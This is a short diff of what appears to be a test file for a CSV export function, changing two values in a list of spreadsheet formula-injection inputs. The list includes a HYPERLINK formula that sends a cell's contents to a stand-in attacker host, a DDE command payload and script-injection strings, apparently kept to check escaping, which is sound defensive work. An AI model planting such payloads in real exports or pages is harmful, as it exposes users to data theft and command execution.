@@ -16,7 +16,7 @@ from diagioi.layers.indicators import indicators_to_csv
 from security_helpers import AUTH
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1,2)",
-            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+            "=cmd|' /C calc'!A0", "\t=2+2", "\r=3+3"]
 SCRIPT = "</title><script>alert(1)</script>"
 IMAGE = '<img src=x onerror="alert(2)">'
 
